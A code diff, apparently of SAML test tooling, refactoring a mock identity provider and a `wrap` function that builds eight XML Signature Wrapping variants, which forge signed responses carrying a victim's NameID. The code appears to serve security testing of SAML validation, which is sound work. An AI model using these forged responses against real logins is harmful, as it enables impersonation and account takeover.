@@ -105,7 +105,10 @@ export function createSamlIdp(config: { entityId?: string; spEntityId?: string; 
     acsUrl,
     metadata({ keys = [key], ssoUrl = 'https://idp.example.test/sso' } = {}) {
       const descriptors = keys
-        .map((k) => `<md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${certBase64(k)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`)
+        .map(
+          (k) =>
+            `<md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${certBase64(k)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>`,
+        )
         .join('');
       return `<?xml version="1.0"?><md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="${DS}" entityID="${esc(entityId)}"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">${descriptors}<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="${esc(ssoUrl)}/post"/><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="${esc(ssoUrl)}"/></md:IDPSSODescriptor></md:EntityDescriptor>`;
     },
@@ -117,7 +120,10 @@ export function createSamlIdp(config: { entityId?: string; spEntityId?: string; 
       const irt = inResponseTo === null ? '' : ` InResponseTo="${esc(inResponseTo)}"`;
       const destination = o.destination === undefined ? acsUrl : o.destination;
       const attributes = Object.entries(o.attributes ?? { email: [o.nameId ?? 'ana@acme.example'] })
-        .map(([name, values]) => `<saml:Attribute Name="${esc(name)}">${values.map((v) => `<saml:AttributeValue>${esc(v)}</saml:AttributeValue>`).join('')}</saml:Attribute>`)
+        .map(
+          ([name, values]) =>
+            `<saml:Attribute Name="${esc(name)}">${values.map((v) => `<saml:AttributeValue>${esc(v)}</saml:AttributeValue>`).join('')}</saml:Attribute>`,
+        )
         .join('');
       const xml = [
         `<samlp:Response xmlns:samlp="${P}" xmlns:saml="${A}" ID="_r${randomBytes(8).toString('hex')}" Version="2.0" IssueInstant="${iso(now)}"${destination === null ? '' : ` Destination="${esc(destination)}"`}${irt}>`,
@@ -169,9 +175,11 @@ export function createSamlIdp(config: { entityId?: string; spEntityId?: string; 
           const authn = doc.documentElement!;
           const response = idp.response({ inResponseTo: authn.getAttribute('ID'), nameId: nextNameId.value });
           const relayState = url.searchParams.get('RelayState');
-          res.writeHead(200, { 'content-type': 'text/html' }).end(
-            `<form method="post" action="${esc(authn.getAttribute('AssertionConsumerServiceURL') ?? '')}"><input type="hidden" name="SAMLResponse" value="${Buffer.from(response).toString('base64')}"/>${relayState === null ? '' : `<input type="hidden" name="RelayState" value="${esc(relayState)}"/>`}</form>`,
-          );
+          res
+            .writeHead(200, { 'content-type': 'text/html' })
+            .end(
+              `<form method="post" action="${esc(authn.getAttribute('AssertionConsumerServiceURL') ?? '')}"><input type="hidden" name="SAMLResponse" value="${Buffer.from(response).toString('base64')}"/>${relayState === null ? '' : `<input type="hidden" name="RelayState" value="${esc(relayState)}"/>`}</form>`,
+            );
           return;
         }
         res.writeHead(404).end();
@@ -204,6 +212,12 @@ function setNameId(assertion: XmlElement, value: string): void {
   const nameId = first(assertion, A, 'NameID');
   while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
   nameId.appendChild(nameId.ownerDocument!.createTextNode(value));
+}
+
+function unsignedCopy(element: XmlElement): XmlElement {
+  const copy = element.cloneNode(true);
+  copy.removeChild(first(copy, DS, 'Signature'));
+  return copy;
 }
 
 /** Changes the NameID of a signed response, leaving every signature as it was. */
@@ -246,8 +260,7 @@ export function wrap(kind: 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8, signedXml: string, vic
     // The original Response (its signature taken out) goes inside (XSW1) or before (XSW2) the
     // signature of an evil Response, which takes the original's place as the root.
     const signature = Array.from(response.childNodes).find((n) => (n as XmlElement).localName === 'Signature') as XmlElement;
-    const original = response.cloneNode(true);
-    original.removeChild(Array.from(original.childNodes).find((n) => (n as XmlElement).localName === 'Signature')!);
+    const original = unsignedCopy(response);
     response.setAttribute('ID', '_evil_response');
     setNameId(first(response, A, 'Assertion'), victim);
     if (kind === 1) signature.appendChild(original);
@@ -270,22 +283,15 @@ export function wrap(kind: 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8, signedXml: string, vic
       response.removeChild(assertion);
       evil.appendChild(assertion);
       break;
-    case 5: {
-      // The signed Assertion changed in place (signature kept), the original copied unsigned at the end.
-      const original = assertion.cloneNode(true);
-      original.removeChild(first(original, DS, 'Signature'));
-      setNameId(assertion, victim);
-      assertion.setAttribute('ID', '_evil_assertion');
-      response.appendChild(original);
-      break;
-    }
+    case 5:
     case 6: {
-      // As XSW5, with the unsigned original inside the signature.
-      const original = assertion.cloneNode(true);
-      original.removeChild(first(original, DS, 'Signature'));
+      // The signed Assertion changed in place (signature kept), the original copied unsigned
+      // at the end of the Response (XSW5) or inside the signature (XSW6).
+      const original = unsignedCopy(assertion);
       setNameId(assertion, victim);
       assertion.setAttribute('ID', '_evil_assertion');
-      first(assertion, DS, 'Signature').appendChild(original);
+      if (kind === 5) response.appendChild(original);
+      else first(assertion, DS, 'Signature').appendChild(original);
       break;
     }
     case 7: {
@@ -300,8 +306,7 @@ export function wrap(kind: 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8, signedXml: string, vic
     }
     case 8: {
       // An evil Assertion carrying the signature, the unsigned original inside its ds:Object.
-      const original = assertion.cloneNode(true);
-      original.removeChild(first(original, DS, 'Signature'));
+      const original = unsignedCopy(assertion);
       const object = doc.createElementNS(DS, 'ds:Object');
       object.appendChild(original);
       first(evil, DS, 'Signature').appendChild(object);
